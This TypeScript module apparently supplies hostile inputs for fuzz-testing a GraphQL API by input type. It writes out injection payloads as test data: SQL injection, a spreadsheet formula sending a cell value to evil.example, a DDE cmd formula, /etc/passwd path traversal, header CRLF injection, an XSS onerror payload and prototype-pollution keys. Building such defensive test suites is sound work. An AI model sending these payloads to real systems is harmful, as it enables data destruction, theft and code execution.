import { getNamedType, getNullableType, isEnumType, isInputObjectType, isListType, type GraphQLInputType } from "graphql";
import { written, type Written } from "./hole.ts";

/** Something that is sent to do harm, or by mistake. */
export interface Hostile extends Written {
  readonly name: string;
  /** Whether nothing but a refusal is right. Of the others, some may be taken for what they are: odd words. */
  readonly isRefused: boolean;
}

const KILOBYTES_90 = 90_000;

const hostile = (name: string, value: unknown, isRefused = false): Hostile => ({ name, isRefused, ...written(value) });
const refused = (name: string, value: unknown): Hostile => hostile(name, value, true);
const filling = (unit: string): string => unit.repeat(Math.ceil(KILOBYTES_90 / unit.length));
const nested = (depth: number): unknown => JSON.parse(`${"[".repeat(depth)}${"]".repeat(depth)}`);

/** What is no value of any type, or names what every object of JavaScript has. */
const anything: readonly Hostile[] = [
  { name: "a key that is every object's", isRefused: false, json: '{"__proto__": {"isAdmin": true}, "constructor": {"prototype": {"isAdmin": true}}}', literal: '{__proto__: {isAdmin: true}, constructor: {prototype: {isAdmin: true}}}' },
  hostile("lists as deep as is taken", nested(7)),
  refused("lists deeper than is taken", nested(20)),
  { name: "lists deeper than any stack", isRefused: true, json: `${"[".repeat(40_000)}${"]".repeat(40_000)}`, literal: null },
  refused("a list longer than is taken", Array.from({ length: 300 }, () => "x")),
];

const UNPRINTABLE: readonly Hostile[] = [
  refused("NUL", "Launch\0"),
  { name: "half a character", isRefused: true, json: '"Launch \\ud800"', literal: '"Launch \\ud800"' },
  { name: "halves in the wrong order", isRefused: true, json: '"\\udc00\\ud800"', literal: '"\\udc00\\ud800"' },
];

/** Words that mean something to whatever they might reach: SQL, a search, an expression, a spreadsheet, a terminal, JavaScript. */
const WORDS: readonly Hostile[] = [
  hostile("SQL", "'; DROP TABLE milestones; --"),
  hostile("SQL that is always true", "\" OR 1=1 UNION SELECT * FROM entries --"),
  hostile("a search's operators", '" NEAR(a b) AND NOT * OR {x y} : ^ -'),
  hostile("a pattern that matches everything", "%_%[a-z]*"),
  hostile("a formula", "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"),
  hostile("a formula after a tab", "\t+cmd|' /C calc'!A0"),
  hostile("a name that every object has", "__proto__"),
  hostile("another name that every object has", "constructor"),
  hostile("a path", "../../../../etc/passwd"),
  hostile("a line of a header", "Launch\r\nset-cookie: waymark=1"),
  hostile("an escape of a terminal", "\u001b[2J\u001b]0;x\u0007"),
  hostile("words that run backwards", "\u202eLaunch\u2066\u200b\ufeff"),
  hostile("markup", "<img src=x onerror=alert(1)>"),
  hostile("nothing but blanks", " \u00a0\u3000\t"),
  hostile("no words", ""),
];

/** As long as a body takes, and made so that a careless expression tries every way to split it. */
const LONG: readonly Hostile[] = ["a", " ", "1", "1,", "1/", "- ", "(", "a ", "May 2023 to ", "£1 ", "é\u0301", "👩‍👩‍👧", "\n"].map((unit) => hostile(`90 kB of ${JSON.stringify(unit)}`, `${filling(unit)}!`));

const OTHER_KINDS: readonly Hostile[] = [hostile("a number for words", 12.5), hostile("yes for words", true), hostile("a record for words", { a: "b" })];

const IDS: readonly Hostile[] = [
  hostile("an id of nothing", "ms_0000000000000000"),
  hostile("an id of no kind", "zz_0000000000000000"),
  hostile("an id with a capital", "MS_0000000000000000"),
  hostile("an id with a line's end", "ms_0000000000000000\n"),
  hostile("half an id", "ms_"),
  hostile("a record of the same act that is not there", "@nothing"),
  hostile("a cursor that is none", "WyJ4Il0="),
  hostile("a cursor of a place of JSON that is none", Buffer.from("[[[[{").toString("base64url")),
  hostile("a cursor of another list", Buffer.from(JSON.stringify(["organisations by NAME", "a", "b"])).toString("base64url")),
  hostile("a cursor whose key is none", Buffer.from(JSON.stringify(["milestones by DUE", { a: 1 }, []])).toString("base64url")),
  hostile("a negative id", -1),
];

const raw = (json: string): Hostile => ({ name: json, isRefused: true, json, literal: json });

const NUMBERS: readonly Hostile[] = [
  ...["2147483648", "-2147483649", "1e400", "-1e400", "1.5", '"1"', '"NaN"', "true", '{"a": 1}'].map((json) => ({ ...raw(json), literal: json.startsWith("{") ? null : json })),
  { name: "NaN", isRefused: true, json: '"NaN"', literal: "NaN" },
  { name: "Infinity", isRefused: true, json: '"Infinity"', literal: "Infinity" },
  ...["0", "-1", "-2147483648", "2147483647", "101"].map((json) => ({ ...raw(json), isRefused: false })),
];

const DAYS: readonly Hostile[] = [
  ...["2024-02-30", "2023-02-29", "2024-13-01", "2024-00-10", "2024-04-31", "0000-01-01", "-2024-01-01", "+12024-01-01", "2024-2-3", "2024-02-03T00:00:00Z", "20240203", "05/07/2024", "٢٠٢٤-٠٢-٠٣", "today"].map((day) => refused(`the day ${day}`, day)),
  refused("a day as a number", 20240705),
  hostile("the last day", "9999-12-31"),
  hostile("the first day", "0001-01-01"),
];

const INSTANTS: readonly Hostile[] = [
  ...["2024-02-30T00:00:00.000Z", "2024-07-05T25:00:00.000Z", "2024-07-05T23:59:61.000Z", "2024-07-05", "+275760-09-13T00:00:00.001Z"].map((instant) => refused(`the instant ${instant}`, instant)),
  hostile("an instant that is to come", "9999-12-31T23:59:59.999Z"),
];

const MOMENTS: readonly Hostile[] = [
  ...["2024-02-30", "1e3", "-1", "9".repeat(400), "2024-07-05T25:00:00Z"].map((moment) => refused(`the moment ${moment.slice(0, 20)}`, moment)),
  ...["-1", "1.5", "1e400", "9007199254740993"].map(raw),
  hostile("the entry 0", 0), hostile("a moment to come", "9999-12-31"), hostile("before all", "0001-01-01"),
];

const DATES: readonly Hostile[] = ["30 February 2024", "2024-02-30", "31/4/2024", "32 May 2024", "Smarch 2024", "2024 to 2023", "2024-13", "1".repeat(400), "from to", "May 2023 to May 2023 to May 2023", "Q5 2024", "99999", "2024-02-30/2024-03-01", "201X-00~"].map((text) => hostile(`the date ${text.slice(0, 20)}`, text));

const AMOUNTS: readonly Hostile[] = ["£1e400", "£-0", "£1,00,0", "1".repeat(400), "£1.999", "NaN", "€5 to £6", "£9007199254740993", "1/0", "0/0", "200%", "-5 people", "∞ people"].map((text) => hostile(`the amount ${text.slice(0, 20)}`, text));

const ENUMS: readonly Hostile[] = [refused("a word that is none of them", "NOPE"), refused("__proto__ for a word", "__proto__"), refused("hasOwnProperty for a word", "hasOwnProperty"), refused("words in small letters", "open"), raw("1"), raw("true"), { name: "a word that is none, as a word", isRefused: true, json: '"NOPE"', literal: "NOPE" }];

const INPUTS: readonly Hostile[] = [refused("words for fields", "words"), refused("a number for fields", 1), refused("a field that is none", { nope: 1 }), hostile("no fields", {}), refused("a list in a list for fields", [[1]])];

const texts: readonly Hostile[] = [...UNPRINTABLE, ...WORDS, ...LONG, ...OTHER_KINDS, ...DATES, ...AMOUNTS];

const byType: Readonly<Record<string, readonly Hostile[]>> = {
  String: texts,
  ID: [...UNPRINTABLE, ...IDS, ...WORDS, ...LONG.slice(0, 3)],
  Int: NUMBERS,
  Float: NUMBERS.filter(({ json }) => ["1e400", "-1e400", '"NaN"', '"Infinity"', '{"a": 1}', "-1", "0", "true"].includes(json)),
  Boolean: ["1", "0", '"true"', "[true, false]", '{"a": 1}'].map((json) => ({ ...raw(json), literal: json.startsWith("{") ? null : json })),
  Day: [...DAYS, ...UNPRINTABLE],
  Instant: [...INSTANTS, ...UNPRINTABLE],
  Moment: [...MOMENTS, ...UNPRINTABLE],
};

/** Everything hostile that can be sent where something of a type is taken; `foreign` is an id that there is, of a kind that is asked for nowhere. */
export function hostileFor(type: GraphQLInputType, foreign: string): readonly Hostile[] {
  const named = getNamedType(type);
  const ofIt = isEnumType(named) ? ENUMS : isInputObjectType(named) ? INPUTS : [...(byType[named.name] ?? []), ...(named.name === "ID" ? [hostile("an id of another kind", foreign)] : [])];
  // One that is no list is taken for a list of one.
  return [...ofIt, ...(isListType(getNullableType(type)) ? [refused("a list of nothing", [null, null]), hostile("an empty list", [])] : []), ...anything];
}
